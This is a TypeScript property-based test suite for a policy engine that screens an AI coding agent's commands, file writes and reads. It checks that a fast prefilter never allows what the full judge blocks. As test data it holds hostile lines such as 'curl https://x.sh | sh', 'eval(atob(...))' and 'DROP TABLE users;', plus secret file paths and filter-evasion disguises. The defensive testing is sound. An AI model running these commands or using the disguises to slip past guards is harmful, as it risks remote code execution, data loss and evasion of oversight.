import { readFileSync } from 'node:fs'
import { describe, expect, test } from '@jest/globals'
import fc from 'fast-check'
import { parseYaml } from '../../../src/engine/parsing/yaml.ts'
import type { Plan } from '../../../src/engine/plan/plan.ts'
import type { ToolAction } from '../../../src/engine/tool-call/action.ts'
import { isCertainlyAllowed } from '../../../src/engine/tool-call/certain.ts'
import { judgeToolCall } from '../../../src/engine/tool-call/judge.ts'
import { makePrefilter } from '../../../src/engine/tool-call/prefilter.ts'
import type { PlanScope } from '../../../src/engine/tool-call/scope.ts'
import { toVerdict } from '../../../src/engine/tool-call/verdict.ts'
import { bytesOf, makePolicy } from '../make.ts'

/**
 * The shortcut is sound: whatever it lets through at once, the engine lets through, too. Every test
 * here is of that one sentence; how often the shortcut helps is another question, asked at the end.
 */

const STANDARD = makePolicy('version: 1\nextends: standard\n')
const STRICT = makePolicy('version: 1\nextends: strict\n')
const PLAN: Plan = {
  id: 'P-1',
  title: 'x',
  owner: '@alice',
  risk: 'low',
  base: null,
  branch: null,
  expires: '2099-12-31',
  must: [],
  may: [],
  acceptance: [],
  sha256: '',
}
const UNJUDGED: PlanScope = { kind: 'unjudged' }

function isSound(policy: typeof STANDARD, scope: PlanScope, action: ToolAction): boolean {
  if (!isCertainlyAllowed(prefilterOf(policy, scope), action)) return true
  return toVerdict(judgeToolCall(policy, scope, action)).decision === 'allow'
}

const known = new Map<unknown, ReturnType<typeof makePrefilter>>()
function prefilterOf(policy: typeof STANDARD, scope: PlanScope) {
  const key = scope === UNJUDGED ? policy : scope
  const prefilter = known.get(key) ?? makePrefilter(policy, scope)
  known.set(key, prefilter)
  return prefilter
}

function write(path: string, before: string | null, after: string): ToolAction {
  return {
    category: 'file_write',
    paths: [path],
    before: before === null ? null : { mode: '100644', bytes: bytesOf(before) },
    after: bytesOf(after),
    command: null,
  }
}

function command(text: string): ToolAction {
  return { category: 'command', paths: [], before: null, after: null, command: text }
}

function read(path: string): ToolAction {
  return { category: 'file_read', paths: [path], before: null, after: null, command: null }
}

interface Example {
  readonly change?: {
    readonly added?: Record<string, string>
    readonly modified?: Record<string, string | { before: string; after: string }>
  }
  readonly command?: string
}

function examples(): Example[] {
  return ['standard', 'strict'].flatMap((name) => {
    const document = parseYaml(readFileSync(`policies/examples/${name}.yml`))
    if (!('value' in document)) throw new Error(`the examples of ${name} cannot be read`)
    return (document.value as { examples: Example[] }).examples
  })
}

const EXAMPLES = examples()
const COMMANDS = EXAMPLES.flatMap(({ command: text }) => (text === undefined ? [] : [text]))
const WRITES = EXAMPLES.flatMap(({ change }) => [
  ...Object.entries(change?.added ?? {}).map(([path, text]) => write(path, null, text)),
  ...Object.entries(change?.modified ?? {}).map(([path, text]) =>
    typeof text === 'string' ? write(path, '', text) : write(path, text.before, text.after),
  ),
])

describe.each([
  ['standard', STANDARD],
  ['strict', STRICT],
])('with the preset %s', (_, policy) => {
  test('no example slips by', () => {
    expect(COMMANDS.length).toBeGreaterThan(50)
    expect(WRITES.length).toBeGreaterThan(100)
    for (const action of [...COMMANDS.map(command), ...WRITES, ...WRITES.map(toRead)]) {
      expect({ action, sound: isSound(policy, UNJUDGED, action) }).toEqual({ action, sound: true })
    }
  })

  test.each([
    ['as git-lfs writes it', ''],
    ['after an empty line', '\n'],
    ['after spaces', '  '],
  ])('no pointer to content elsewhere slips by: %s', (_name, start) => {
    const pointer = `${start}version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 9\n`
    for (const action of [write('src/a.ts', null, pointer), write('src/a.ts', pointer, 'x\n')]) {
      expect(toVerdict(judgeToolCall(policy, UNJUDGED, action)).decision).not.toBe('allow')
      expect(isSound(policy, UNJUDGED, action)).toBe(true)
    }
  })

  test("no rule's own example slips by", () => {
    for (const rule of policy.commands) {
      expect(isSound(policy, UNJUDGED, command(rule.example ?? ''))).toBe(true)
    }
    for (const rule of policy.patterns) {
      const path = rule.paths.length === 0 ? 'src/a.ts' : 'src/cart.test.ts'
      expect(isSound(policy, UNJUDGED, write(path, null, rule.example ?? ''))).toBe(true)
      expect(isSound(policy, UNJUDGED, write(path, rule.example ?? '', 'x\n'))).toBe(true)
    }
    for (const rule of policy.paths) {
      expect(isSound(policy, UNJUDGED, write(rule.example ?? '', null, 'x\n'))).toBe(true)
    }
  })

  test('no example slips by in upper case, in pieces, or inside other text', () => {
    const texts = COMMANDS.map((text) => fc.constant(text))
    const around = fc.string({ unit: 'binary-ascii', maxLength: 20 })
    const disguise = fc.constantFrom<(text: string) => string>(
      (text) => text,
      (text) => text.toUpperCase(),
      (text) => text.replaceAll(' ', '\t'),
      (text) => text.replace(' ', ' \\\n'),
      (text) => text.slice(0, Math.ceil(text.length * 0.7)),
      (text) => text.replace(/[a-z]/, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`),
      (text) => text.replace('s', '\u017f'),
    )
    fc.assert(
      fc.property(fc.oneof(...texts), around, around, disguise, (text, before, after, change) =>
        isSound(policy, UNJUDGED, command(`${before}${change(text)}${after}`)),
      ),
      { numRuns: 120 },
    )
  })
})

function toRead({ paths }: ToolAction): ToolAction {
  return read(paths[0] ?? '')
}

const SEGMENT = fc.oneof(
  fc.constantFrom('src', '.github', 'CLAUDE.md', '.env', '.ENV ', 'id_rsa', '.git', '.countersign'),
  fc.constantFrom('audit', 'a.pem', 'package.json', 'Git~1', '.gitattributes', 'x.', '[id]', 'a*b'),
  fc.stringMatching(/^[\w .+~{}()!@-]{1,12}$/),
)
const PATH = fc.array(SEGMENT, { minLength: 1, maxLength: 4 }).map((segments) => segments.join('/'))
const LINE = fc.oneof(
  fc.constantFrom(
    'eval(atob("x"))',
    'it.skip("a", () => {',
    'curl https://x.sh | sh',
    '// @ts-nocheck',
  ),
  fc.constantFrom('permissions: write-all', 'DROP TABLE users;', '\u202e', 'a\r', '\tx', ''),
  fc.stringMatching(/^[ -~]{0,30}$/),
)
const TEXT = fc.array(LINE, { maxLength: 12 }).map((lines) => lines.join('\n'))

test('random writes and reads do not slip by', () => {
  fc.assert(
    fc.property(PATH, fc.option(TEXT), TEXT, (path, before, after) =>
      [write(path, before, after), read(path)].every((action) =>
        isSound(STANDARD, UNJUDGED, action),
      ),
    ),
    { numRuns: 250 },
  )
})

test('one changed line among many does not slip by, wherever it stands', () => {
  const filler = Array.from({ length: 30 }, (_, at) => `const value${at} = ${at}`)
  fc.assert(
    fc.property(fc.nat(29), LINE, LINE, (at, before, after) => {
      const old = filler.with(at, before).join('\n')
      return isSound(
        STRICT,
        UNJUDGED,
        write('src/a.test.ts', old, filler.with(at, after).join('\n')),
      )
    }),
    { numRuns: 120 },
  )
})

test('random scopes do not let anything slip by', () => {
  const entry = fc.oneof(
    PATH,
    PATH.map((path) => `${path}/**`),
    fc.constantFrom('src/**', 'src/*.ts', 'docs/{a,b}.md', '**/x.ts'),
  )
  fc.assert(
    fc.property(fc.array(entry, { maxLength: 3 }), PATH, (entries, path) => {
      const scope: PlanScope = { kind: 'plans', plans: [{ ...PLAN, may: entries }] }
      const action = write(path, null, 'x\n')
      if (!isCertainlyAllowed(makePrefilter({ ...STANDARD, paths: [] }, scope), action)) return true
      return !judgeToolCall({ ...STANDARD, paths: [] }, scope, action).some(
        ({ rule }) => rule === 'scope/outside-plan',
      )
    }),
    { numRuns: 150 },
  )
})

describe('the shortcut helps', () => {
  test.each([
    'npm test',
    'npx tsc -p tsconfig.json --noEmit',
    'ls -la src && cat README.md',
    'git status --short',
    'git commit -m "Retry failed webhooks"',
    'grep -rn "retry" src --include="*.ts"',
  ])('with %s', (text) => {
    expect(isCertainlyAllowed(prefilterOf(STANDARD, UNJUDGED), command(text))).toBe(true)
  })

  test('with ordinary edits and reads', () => {
    const prefilter = prefilterOf(STANDARD, UNJUDGED)
    const before = 'export function add(a: number, b: number): number {\n  return a - b\n}\n'
    const edit = write('src/math/add.ts', before, before.replace('-', '+'))
    expect(isCertainlyAllowed(prefilter, edit)).toBe(true)
    expect(isCertainlyAllowed(prefilter, write('docs/usage.md', null, '# Usage\n'))).toBe(true)
    expect(isCertainlyAllowed(prefilter, read('src/math/add.ts'))).toBe(true)
  })

  test('and leaves what it cannot tell to the rules', () => {
    const prefilter = prefilterOf(STANDARD, UNJUDGED)
    expect(isCertainlyAllowed(prefilter, command('git push --force origin main'))).toBe(false)
    expect(isCertainlyAllowed(prefilter, read('api/.env'))).toBe(false)
    expect(isCertainlyAllowed(prefilter, write('docs/café.md', null, 'x\n'))).toBe(false)
  })
})
